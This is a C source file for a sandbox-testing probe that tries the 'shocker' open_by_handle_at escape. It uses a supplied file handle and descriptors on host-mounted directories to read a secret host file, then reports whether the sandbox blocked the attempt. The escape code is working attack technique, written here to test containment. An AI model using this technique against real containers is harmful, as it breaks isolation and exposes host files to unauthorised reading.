/* Probe: open_by_handle_at(2), the "shocker" escape: a file handle names an
 * inode on a host filesystem regardless of the mount tree, so any fd on that
 * filesystem (a read-only bind of /usr) plus a handle reaches files the
 * sandbox cannot see. The harness makes a secret file on the host, passes its
 * handle (handle_type=, handle=<hex>) and secret=; the probe tries each fd it
 * can find on the host filesystem. It also tries name_to_handle_at on /usr.
 */
#include "probe_common.h"

static unsigned char g_bytes[128];
static size_t g_len;
static int g_type;
static const char* g_mount_path;

static long attempt(void* arg) {
  (void)arg;
  int mfd = open(g_mount_path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (mfd < 0) return -100 - errno;
  char space[sizeof(struct file_handle) + sizeof g_bytes];
  struct file_handle* fh = (struct file_handle*)space;
  fh->handle_bytes = (unsigned)g_len;
  fh->handle_type = g_type;
  memcpy(fh->f_handle, g_bytes, g_len);
  int fd = open_by_handle_at(mfd, fh, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  char buf[256];
  ssize_t n = read(fd, buf, sizeof buf - 1);
  buf[n > 0 ? n : 0] = '\0';
  const char* secret = probe_arg("secret");
  return (secret && strstr(buf, secret)) ? 1 : 0;
}

static long attempt_name(void* arg) {
  (void)arg;
  char space[sizeof(struct file_handle) + 128];
  struct file_handle* fh = (struct file_handle*)space;
  fh->handle_bytes = 128;
  int mount_id;
  return name_to_handle_at(AT_FDCWD, "/usr", fh, &mount_id, 0);
}

int main(int argc, char** argv) {
  probe_init("open_by_handle", argc, argv);
  const char* hex = probe_arg("handle");
  g_type = (int)probe_arg_ll("handle_type", 0);
  if (!hex) PROBE_ERROR("handle= not given");
  for (g_len = 0; hex[2 * g_len] && hex[2 * g_len + 1] && g_len < sizeof g_bytes; ++g_len) {
    unsigned v;
    if (sscanf(hex + 2 * g_len, "%2x", &v) != 1) PROBE_ERROR("bad handle hex");
    g_bytes[g_len] = (unsigned char)v;
  }
  const char* mounts[] = {"/usr", "/etc", "/bin", "/lib", "/"};
  char report[1024] = "";
  char why[160];
  for (size_t i = 0; i < sizeof mounts / sizeof mounts[0]; ++i) {
    g_mount_path = mounts[i];
    struct probe_attempt_result r = probe_attempt(attempt, NULL);
    if (r.ran && r.ret == 1) PROBE_ESCAPED("read the host secret through a handle via %s", mounts[i]);
    if (probe_succeeded(&r)) PROBE_ESCAPED("open_by_handle_at via %s opened a host inode", mounts[i]);
    size_t used = strlen(report);
    if (r.ran && r.ret <= -100)
      snprintf(report + used, sizeof report - used, "%s%s: open %s", used ? "; " : "", mounts[i],
               strerrorname_np((int)(-100 - r.ret)));
    else
      snprintf(report + used, sizeof report - used, "%s%s: %s", used ? "; " : "", mounts[i],
               probe_describe_failure(&r, why, sizeof why));
  }
  struct probe_attempt_result n = probe_attempt(attempt_name, NULL);
  size_t used = strlen(report);
  snprintf(report + used, sizeof report - used, "; name_to_handle_at: %s",
           probe_succeeded(&n) ? "allowed (harmless alone)" : probe_describe_failure(&n, why, sizeof why));
  PROBE_BLOCKED("%s", report);
}
